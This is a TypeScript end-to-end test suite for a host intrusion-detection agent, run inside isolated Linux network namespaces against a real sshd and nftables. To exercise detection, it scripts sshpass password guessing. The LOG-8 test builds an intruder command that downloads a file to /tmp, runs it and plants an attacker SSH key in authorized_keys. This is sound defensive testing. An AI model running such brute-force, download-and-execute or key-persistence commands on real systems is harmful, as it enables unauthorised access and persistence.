import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { spawn, type ChildProcess } from "node:child_process";
import { existsSync, readFileSync, writeFileSync, mkdirSync, openSync } from "node:fs";
import { join } from "node:path";
import { spawnSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { tempDir, startServer, enrolToken, waitFor } from "../helpers.ts";
import { canRunNetns, inNs, ip, tcpConnects, wire } from "./netns.ts";
import { startWebhookReceiver } from "../notify-receivers.ts";
import { StaticGeo } from "../../src/intel/index.ts";
import type { HostwardServer } from "../../src/server/index.ts";

/**
 * The real thing: Debian's sshd in namespace `srv` logging to a file, an attacker in
 * namespace `atk` guessing passwords with sshpass+ssh, the agent in `srv` tailing the log
 * and enforcing blocks with nftables, the server in the root namespace over a veth pair.
 *
 *   root 10.77.0.1 ── veth ── 10.77.0.2 srv 10.77.1.1 ── veth ── 10.77.1.2 … 10.77.1.5 atk
 *
 * Logons (LOG-1 … LOG-3) need locations, and namespace hosts sit on private addresses
 * that the real GeoIP database rightly never locates (LOG-5): this test alone injects a
 * table placing 10.77.1.5 in London and 10.77.1.4 in Mountain View.
 */
const skip = canRunNetns();
const id = process.pid % 100000;
const SRV = `hw-srv-${id}`, ATK = `hw-atk-${id}`;
const ROOT_IF = `hwr${id}`, SRV_IF = `hws${id}`, SRV_ATK_IF = `hwa${id}`, ATK_IF = `hwb${id}`;
const ATTACKER = "10.77.1.2", FRIEND = "10.77.1.3", SSHD = "10.77.1.1", TRAVELLER = "10.77.1.4", HOME = "10.77.1.5";
const GEO = new StaticGeo([
  { cidr: `${HOME}/32`, country: "GB", region: "England", city: "London" },
  { cidr: `${TRAVELLER}/32`, country: "US", region: "California", city: "Mountain View" },
]);
/** Throw-away local accounts (removed after the tests). */
const LOGON_USER = `hwlog${id}`, WEAK_USER = `hwweak${id}`;
const WEAK_PASSWORD = "letmein";
const CLI = join(import.meta.dirname, "..", "..", "src", "cli", "main.ts");

let tmp: ReturnType<typeof tempDir>;
let server: HostwardServer;
let adminToken = "";
let agentProc: ChildProcess | undefined;
let sshdProc: ChildProcess | undefined;
let authLog = "";

function api(url: string, method = "GET", payload?: unknown) {
  return server.api.inject({ method: method as "GET", url, headers: { authorization: `Bearer ${adminToken}` }, payload: payload as object });
}

function nftBlocked(): string[] {
  const r = inNs(SRV, "nft", ["-j", "list", "set", "inet", "hostward", "blocked4"]);
  if (r.status !== 0) return [];
  const j = JSON.parse(r.stdout) as { nftables: { set?: { elem?: unknown[] } }[] };
  const elems = j.nftables.find((x) => x.set)?.set?.elem ?? [];
  return elems.map((e) => (typeof e === "string" ? e : String((e as { elem: { val: string } }).elem.val)));
}

/** One failed password guess from `from` (a separate ssh connection, as brute-force tools do). */
function guess(from: string, user = "root") {
  return new Promise<void>((resolve) => {
    const p = spawn("ip", ["netns", "exec", ATK, "sshpass", "-p", "wrong-password", "ssh", "-b", from, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=3", "-o", "LogLevel=ERROR", `${user}@${SSHD}`, "true"], { stdio: "ignore" });
    p.on("exit", () => resolve());
  });
}

const failuresFrom = (addr: string) => readFileSync(authLog, "utf8").split("\n").filter((l) => l.includes("Failed password") && l.includes(` from ${addr} port `)).length;

before(async () => {
  if (skip) return;
  tmp = tempDir("hw-e2e-");
  for (const ns of [SRV, ATK]) ip("netns", "add", ns);
  wire({ ns: null, ifname: ROOT_IF, addrs: ["10.77.0.1/24"] }, { ns: SRV, ifname: SRV_IF, addrs: ["10.77.0.2/24"] });
  wire({ ns: SRV, ifname: SRV_ATK_IF, addrs: [`${SSHD}/24`] }, { ns: ATK, ifname: ATK_IF, addrs: [`${ATTACKER}/24`, `${FRIEND}/24`, `${TRAVELLER}/24`, `${HOME}/24`] });

  // sshd logs to stderr; a small shim stamps each line the way Debian 12's rsyslog writes
  // /var/log/auth.log (RFC 3339 time, host, program[pid]) and appends it to the log file.
  authLog = join(tmp.dir, "auth.log");
  writeFileSync(authLog, "");
  mkdirSync("/run/sshd", { recursive: true });
  const conf = join(tmp.dir, "sshd_config");
  writeFileSync(conf, [`ListenAddress ${SSHD}`, "Port 22", "HostKey /etc/ssh/ssh_host_ed25519_key", "PasswordAuthentication yes", "KbdInteractiveAuthentication no", "UsePAM no", `PidFile ${join(tmp.dir, "sshd.pid")}`, "MaxStartups 100:30:200", "LogLevel INFO", ""].join("\n"));
  const shim = `exec /usr/sbin/sshd -D -e -f ${conf} 2>&1 | while IFS= read -r l; do printf '%s.000000+00:00 srv sshd[%s]: %s\\n' "$(TZ=UTC printf '%(%Y-%m-%dT%H:%M:%S)T' -1)" "$$" "$l" >> ${authLog}; done`;
  sshdProc = spawn("ip", ["netns", "exec", SRV, "bash", "-c", shim], { stdio: "ignore", detached: true });
  await waitFor("sshd listening", () => tcpConnects(ATK, SSHD, 22), 10_000, 200);

  ({ server, adminToken } = await startServer({ dataDir: join(tmp.dir, "server"), geo: GEO, overrides: { agentChannel: { host: "10.77.0.1", port: 0 } } }));
  // a small dictionary keeps the on-demand weak-password check to seconds (the shipped list has hundreds)
  writeFileSync(join(tmp.dir, "passwords.txt"), ["123456", "password", "qwerty", WEAK_PASSWORD, "admin"].join("\n") + "\n");
});

after(async () => {
  if (skip) return;
  for (const p of [agentProc, sshdProc]) {
    try {
      if (p?.pid) process.kill(-p.pid, "SIGKILL");
    } catch { /* gone */ }
    p?.kill("SIGKILL");
  }
  const pidFile = join(tmp.dir, "sshd.pid");
  if (existsSync(pidFile)) try { process.kill(Number(readFileSync(pidFile, "utf8")), "SIGKILL"); } catch { /* gone */ }
  await server?.close();
  for (const u of [LOGON_USER, WEAK_USER]) spawnSync("userdel", ["-r", u], { stdio: "ignore" });
  for (const ns of [SRV, ATK]) try { ip("netns", "del", ns); } catch { /* gone */ }
  try { ip("link", "del", ROOT_IF); } catch { /* gone with the namespace */ }
  tmp.cleanup();
});

test("BF-1 BF-3 BF-4 RSP-1 real sshd, real nftables: brute force is alerted and blocked within 2 s, disabling the policy lets the source back in; an allowlisted source is never blocked", { skip: skip ?? false, timeout: 120_000 }, async (t) => {
  const addr = server.agentChannel.server.address() as { port: number };
  const token = await enrolToken(server);
  const stateDir = join(tmp.dir, "agent");
  const agentLog = openSync(join(tmp.dir, "agent.log"), "a");
  agentProc = spawn("ip", ["netns", "exec", SRV, process.execPath, CLI, "agent", "--server", `https://10.77.0.1:${addr.port}`, "--token", token, "--state", stateDir, "--auth-log", authLog, "--from-start", "--password-list", join(tmp.dir, "passwords.txt"), "--baseline-every", "7d"], { stdio: ["ignore", agentLog, agentLog], detached: true, env: { ...process.env, HOSTWARD_LOG_LEVEL: "info" } });
  const agent = await waitFor("agent enrolled", async () => (await api("/api/v1/agents")).json().items[0], 20_000, 100);
  assert.equal(agent.revokedAt, null);
  // the agent has made its nftables table in srv
  await waitFor("nft table", () => inNs(SRV, "nft", ["list", "table", "inet", "hostward"]).status === 0, 10_000);
  assert.equal((await api("/api/v1/allowlist", "POST", { cidr: `${FRIEND}/32`, note: "our own scanner" })).statusCode, 200);

  assert.ok(tcpConnects(ATK, SSHD, 22, ATTACKER), "before the attack the attacker can reach sshd");

  // --- the attack: failing password guesses until the threshold (5 in 10 min) ---
  for (let i = 0; i < 5; i++) await guess(ATTACKER);
  await waitFor("5 failures logged", () => failuresFrom(ATTACKER) >= 5, 10_000, 20);
  const thresholdAt = Date.now();
  const alert = await waitFor("alert in the API", async () => (await api(`/api/v1/alerts?sourceIp=${ATTACKER}&type=ssh_brute_force`)).json().items[0], 5000, 20);
  const alertAfter = Date.now() - thresholdAt;
  await waitFor("nftables drops the attacker", () => nftBlocked().includes(ATTACKER), 5000, 20);
  const blockAfter = Date.now() - thresholdAt;
  assert.ok(alertAfter <= 2000, `alert ${alertAfter} ms after the threshold`);
  assert.ok(blockAfter <= 2000, `block ${blockAfter} ms after the threshold`);
  t.diagnostic(`threshold → alert in API ${alertAfter} ms, → nftables element ${blockAfter} ms`);
  assert.equal(alert.severity, "high");
  assert.ok(alert.count >= 5);
  assert.equal(tcpConnects(ATK, SSHD, 22, ATTACKER), false, "the attacker's next TCP connection fails");

  const pol = await waitFor("policy active", async () => (await api(`/api/v1/ip-policies?ip=${ATTACKER}&status=active`)).json().items[0], 5000);
  assert.equal(pol.alertId, alert.id);

  // --- an allowlisted source failing just as often: alerted, never blocked ---
  for (let i = 0; i < 6; i++) await guess(FRIEND, "scanner");
  await waitFor("friend failures logged", () => failuresFrom(FRIEND) >= 6, 10_000, 20);
  const friendAlert = await waitFor("friend alert", async () => (await api(`/api/v1/alerts?sourceIp=${FRIEND}`)).json().items.find((a: { count: number }) => a.count >= 6), 5000, 20);
  assert.match(friendAlert.response, /not blocked: allowlist 10\.77\.1\.3\/32/);
  await new Promise((r) => setTimeout(r, 500));
  assert.equal(nftBlocked().includes(FRIEND), false);
  assert.ok(tcpConnects(ATK, SSHD, 22, FRIEND), "the allowlisted source still connects");
  assert.equal((await api(`/api/v1/ip-policies?ip=${FRIEND}`)).json().total, 0);

  // --- BF-4: disabling the policy lets the attacker connect again within 5 s ---
  const disabledAt = Date.now();
  assert.equal((await api(`/api/v1/ip-policies/${pol.id}/disable`, "POST")).statusCode, 200);
  await waitFor("attacker can connect again", () => tcpConnects(ATK, SSHD, 22, ATTACKER), 5000, 50);
  assert.ok(Date.now() - disabledAt <= 5000);
  assert.equal(nftBlocked().includes(ATTACKER), false);
  const actions = await waitFor("unblock result reported", async () => {
    const items = (await api(`/api/v1/actions?policyId=${pol.id}`)).json().items as { type: string; status: string }[];
    return items.every((a) => a.status !== "sent" && a.status !== "queued") && items;
  }, 5000);
  assert.deepEqual(actions.map((a) => `${a.type}:${a.status}`).sort(), ["block_ip:succeeded", "unblock_ip:succeeded"]);
});

/** A successful password logon from `from` (the command run is `true`). */
function logon(from: string, user: string, password: string): Promise<number | null> {
  return new Promise((resolve) => {
    const p = spawn("ip", ["netns", "exec", ATK, "sshpass", "-p", password, "ssh", "-b", from, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no", "-o", "ConnectTimeout=3", "-o", "LogLevel=ERROR", `${user}@${SSHD}`, "true"], { stdio: "ignore" });
    p.on("exit", (code) => resolve(code));
  });
}

function setPassword(user: string, password: string): void {
  const r = spawnSync("chpasswd", [], { input: `${user}:${password}\n` });
  assert.equal(r.status, 0, String(r.stderr));
}

function addUser(user: string, password: string): void {
  spawnSync("userdel", ["-r", user], { stdio: "ignore" });
  const r = spawnSync("useradd", ["-m", "-s", "/bin/bash", user]);
  assert.equal(r.status, 0, String(r.stderr));
  setPassword(user, password);
}

const accepted = (addr: string, user: string) => readFileSync(authLog, "utf8").split("\n").filter((l) => l.includes(`Accepted password for ${user} from ${addr} port `)).length;

test("LOG-1 LOG-2 LOG-3 real sshd: a success from an unapproved location raises one unusual-logon alert and one notification; a second success alerts again without notifying", { skip: skip ?? false, timeout: 120_000 }, async (t) => {
  const agentId = (await api("/api/v1/agents")).json().items[0]?.id as string;
  assert.ok(agentId, "the agent of the first test is enrolled");
  const hook = await startWebhookReceiver();
  try {
    const ch = await api("/api/v1/notification-channels", "POST", { name: "on-call", kind: "webhook", config: { url: hook.url, secret: "e2e webhook secret 0123456789" }, minSeverity: "low", types: [] });
    assert.equal(ch.statusCode, 200, ch.body);
    const password = randomBytes(18).toString("base64url");
    addUser(LOGON_USER, password);
    // history: the asset learned London two days ago (the agent's own credential, as a record it spooled then)
    const st = JSON.parse(readFileSync(join(tmp.dir, "agent", "agent.json"), "utf8")) as { agentId: string; secret: string };
    const twoDaysAgo = Date.now() - 48 * 3_600_000;
    const seeded = await server.agentChannel.inject({ method: "POST", url: "/agent/v1/telemetry", headers: { authorization: `Bearer ${st.agentId}.${st.secret}` }, payload: { records: [{ id: `seed-${id}-london`, kind: "logon", ts: twoDaysAgo, service: "ssh", event: { outcome: "success", reason: "password" }, source: { ip: HOME }, user: { name: LOGON_USER } }] } });
    assert.equal(seeded.statusCode, 200, seeded.body);

    // a logon from the approved location: quiet
    assert.equal(await logon(HOME, LOGON_USER, password), 0, "the logon from London succeeds");
    await waitFor("London logon logged", () => accepted(HOME, LOGON_USER) === 1, 10_000, 20);
    // the agent has shipped it when the server has counted it; no alert
    await new Promise((r) => setTimeout(r, 1500));
    assert.equal((await api(`/api/v1/alerts?type=unusual_logon`)).json().total, 0);

    // a logon from Mountain View: unusual, the location factor named, one notification
    assert.equal(await logon(TRAVELLER, LOGON_USER, password), 0, "LOG-7 the unusual logon itself succeeds (never blocked)");
    const alert = await waitFor("unusual-logon alert", async () => (await api(`/api/v1/alerts?type=unusual_logon&sourceIp=${TRAVELLER}`)).json().items[0], 10_000, 50);
    assert.deepEqual(alert.evidence["unusual.factors"], ["location"]);
    assert.equal(alert.evidence["source.geo"].city, "Mountain View");
    assert.equal(alert.user.name, LOGON_USER);
    const notified = () => hook.hooks.filter((h) => JSON.parse(h.body).alert?.id === alert.id).length;
    await waitFor("one notification", () => notified() === 1, 10_000, 50);
    assert.equal((await api(`/api/v1/ip-policies?ip=${TRAVELLER}`)).json().total, 0, "LOG-7 not blocked");

    // the same IP again: the alert counts it, no second notification
    assert.equal(await logon(TRAVELLER, LOGON_USER, password), 0);
    await waitFor("second occurrence counted", async () => (await api(`/api/v1/alerts/${alert.id}`)).json().count === 2, 10_000, 50);
    await new Promise((r) => setTimeout(r, 2500)); // the dispatcher runs every second
    assert.equal(notified(), 1, "LOG-3 only the first logon from the IP notifies");
    assert.equal((await api(`/api/v1/alerts?type=unusual_logon`)).json().total, 1, "one alert for the asset and IP (ALR-2)");
    t.diagnostic(`unusual logon alert ${alert.id}: ${alert.evidence["unusual.details"][0]}`);
  } finally {
    await hook.close();
  }
});

test("BF-5 a weak password on a real local account is found by the agent, and changing it clears the finding on demand", { skip: skip ?? false, timeout: 180_000 }, async (t) => {
  const agentId = (await api("/api/v1/agents")).json().items[0]?.id as string;
  addUser(WEAK_USER, WEAK_PASSWORD);
  const runAndWait = async () => {
    const r = await api("/api/v1/baseline/run", "POST", { assetIds: [agentId], checks: ["weak_password"] });
    assert.equal(r.statusCode, 200, r.body);
    const since = Date.parse(r.json().requestedAt);
    return waitFor("baseline result", async () => (await api(`/api/v1/baseline/runs?assetId=${agentId}&check=weak_password`)).json().items.find((x: { ts: string }) => Date.parse(x.ts) >= since), 120_000, 250);
  };
  const weakOf = async () => ((await api(`/api/v1/baseline/findings?assetId=${agentId}`)).json().items as { subject: string; reason: string; scheme: string }[]).find((f) => f.subject === WEAK_USER);

  const t0 = Date.now();
  const first = await runAndWait();
  const found = await weakOf();
  assert.ok(found, `the weak password of ${WEAK_USER} is found`);
  assert.equal(found.reason, "dictionary");
  assert.equal(found.scheme, "yescrypt", "Debian 12 hashes with yescrypt");
  t.diagnostic(`first run: ${first.checked} accounts checked in ${first.durationMs} ms (answered ${Date.now() - t0} ms after the request)`);
  const raw = (await api(`/api/v1/baseline/findings?assetId=${agentId}`)).body;
  assert.ok(!raw.includes(WEAK_PASSWORD) && !raw.includes("$y$"), "neither the password nor a hash leaves the host");

  setPassword(WEAK_USER, randomBytes(18).toString("base64url"));
  const second = await runAndWait();
  assert.equal(await weakOf(), undefined, "the changed password clears the finding at once");
  t.diagnostic(`second run: ${second.checked} accounts in ${second.durationMs} ms`);
});

test("LOG-8 real sshd: a session that downloads a file, runs it from /tmp and installs an authorized key is one suspicious-session alert naming the account and address", { skip: skip ?? false, timeout: 120_000 }, async (t) => {
  const user = `hwses${id}`;
  const password = randomBytes(18).toString("base64url");
  addUser(user, password);
  // the attacker's download server in atk: answers after a second, as a slow link does (the
  // agent samples /proc every 250 ms: a process must live that long to be seen)
  const port = 18000 + (id % 1000);
  const payload = "#!/bin/sh\\nsleep 1\\n";
  const web = spawn("ip", ["netns", "exec", ATK, process.execPath, "-e", `require("http").createServer((q,s)=>setTimeout(()=>s.end("${payload}"),1000)).listen(${port},"${HOME}")`], { stdio: "ignore", detached: true });
  try {
    await waitFor("download server", () => tcpConnects(SRV, HOME, port), 10_000, 100);
    const drop = `/tmp/.hw-${id}`;
    // one ssh command as intruders run it: download, make executable and run, persist a key
    const cmd = [
      `curl -s -m 5 http://${HOME}:${port}/x -o ${drop}`,
      `chmod +x ${drop}`,
      `${drop}`,
      `bash -c 'mkdir -p ~/.ssh; echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHw attacker" >> ~/.ssh/authorized_keys; sleep 1'`,
    ].join("; ");
    const code = await new Promise<number | null>((resolve) => {
      const p = spawn("ip", ["netns", "exec", ATK, "sshpass", "-p", password, "ssh", "-b", HOME, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no", "-o", "ConnectTimeout=3", "-o", "LogLevel=ERROR", `${user}@${SSHD}`, cmd], { stdio: "ignore" });
      p.on("exit", (c) => resolve(c));
    });
    assert.equal(code, 0, "the session's commands ran");
    const alert = await waitFor("suspicious-session alert", async () => ((await api(`/api/v1/alerts?type=suspicious_ssh_session`)).json().items as { evidence: Record<string, unknown> }[]).find((a) => (a.evidence.session as { user?: string } | undefined)?.user === user), 20_000, 100);
    const session = alert.evidence.session as { user: string; sourceIp?: string; sshdPid: number };
    assert.equal(session.sourceIp, HOME, "the session's client address, from its sshd's socket");
    assert.ok(session.sshdPid > 1);
    t.diagnostic(`suspicious session of ${session.user} from ${session.sourceIp}: stage ${String(alert.evidence["process.stage"])}, ${String(alert.evidence["process.command_line"]).slice(0, 80)}`);
  } finally {
    try { if (web.pid) process.kill(-web.pid, "SIGKILL"); } catch { /* gone */ }
    spawnSync("userdel", ["-r", user], { stdio: "ignore" });
  }
});
